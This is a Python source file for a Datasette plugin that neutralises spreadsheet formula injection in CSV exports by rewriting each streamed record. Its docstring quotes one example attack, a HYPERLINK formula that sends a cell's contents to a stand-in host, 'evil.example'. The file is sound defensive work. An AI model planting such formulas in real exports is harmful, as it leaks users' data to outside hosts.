"""Spreadsheet safety for Datasette's CSV exports: a comment is never run as a formula.

A comment that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets when the exported CSV is opened
(``=HYPERLINK("https://evil.example/?"&A2, "click")``). Datasette writes cells as they are, so
this plugin (Datasette's ``asgi_wrapper`` hook; Datasette 0.65 has no hook on CSV cells) rewrites
every CSV response, table, row or query alike and streamed or not, record by record, through
:func:`feedback.spreadsheet.neutralise`. The stored text, the HTML pages and the JSON are unchanged.

Registered as its own Datasette plugin (the ``feedback_csv_safety`` entry point), beside
``feedback.serve.plugin``.
"""

from __future__ import annotations

import codecs
import csv
import io
from collections.abc import Awaitable, Callable, MutableMapping
from typing import Any

from datasette import hookimpl

from feedback.spreadsheet import neutralise

CSV_TYPES = (b"text/csv", b"text/plain")  # Datasette sends text/plain unless ?_dl=1

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
Send = Callable[[Message], Awaitable[None]]
App = Callable[[Scope, Any, Send], Awaitable[None]]


def complete_records(text: str) -> int:
    """How much of ``text`` is whole CSV records: the length up to the last line end that is not
    inside a quoted field (quotes inside a field are doubled, so an even count means outside)."""
    end = len(text)
    quotes = text.count('"')
    while (newline := text.rfind("\n", 0, end)) >= 0:
        quotes -= text.count('"', newline + 1, end)
        if quotes % 2 == 0:
            return newline + 1
        end = newline
    return 0


class CsvRewriter:
    """Rewrites a CSV byte stream (UTF-8, as Datasette writes it) chunk by chunk, whatever the
    chunk boundaries: each whole record is re-written with :func:`neutralise` applied to its cells;
    the rest waits for the next chunk."""

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
        self._pending = ""

    def feed(self, chunk: bytes, final: bool = False) -> bytes:
        text = self._pending + self._decoder.decode(chunk, final)
        cut = len(text) if final else complete_records(text)
        whole, self._pending = text[:cut], text[cut:]
        if not whole:
            return b""
        out = io.StringIO()
        writer = csv.writer(out)  # Datasette's dialect: excel, minimal quoting, CRLF
        for record in csv.reader(io.StringIO(whole, newline="")):
            writer.writerow([neutralise(cell) for cell in record])
        if final and not whole.endswith("\n"):
            return out.getvalue().removesuffix("\r\n").encode("utf-8")
        return out.getvalue().encode("utf-8")


def is_csv_request(scope: Scope) -> bool:
    """A request for Datasette's CSV format (``….csv``: Datasette 0.65 takes the format from the
    path only; a table or query whose name ends in ".csv" is tilde-encoded, ``~2Ecsv``)."""
    return str(scope.get("path", "")).endswith(".csv")


def csv_guard(app: App) -> App:
    """An ASGI wrapper that rewrites the body of every CSV response with :class:`CsvRewriter`."""

    async def guarded(scope: Scope, receive: Any, send: Send) -> None:
        if scope.get("type") != "http" or not is_csv_request(scope):
            await app(scope, receive, send)
            return
        rewriter: CsvRewriter | None = None

        async def send_safely(message: Message) -> None:
            nonlocal rewriter
            if message["type"] == "http.response.start":
                headers = list(message.get("headers") or [])
                kind = next((value for name, value in headers if name.lower() == b"content-type"), b"")
                if kind.lower().startswith(CSV_TYPES):
                    rewriter = CsvRewriter()
                    headers = [(n, v) for n, v in headers if n.lower() != b"content-length"]  # the length changes
                    message = {**message, "headers": headers}
            elif message["type"] == "http.response.body" and rewriter is not None:
                more = bool(message.get("more_body", False))
                message = {**message, "body": rewriter.feed(bytes(message.get("body") or b""), final=not more)}
            await send(message)

        await app(scope, receive, send_safely)

    return guarded


@hookimpl
def asgi_wrapper(datasette: Any) -> Callable[[App], App]:
    return csv_guard
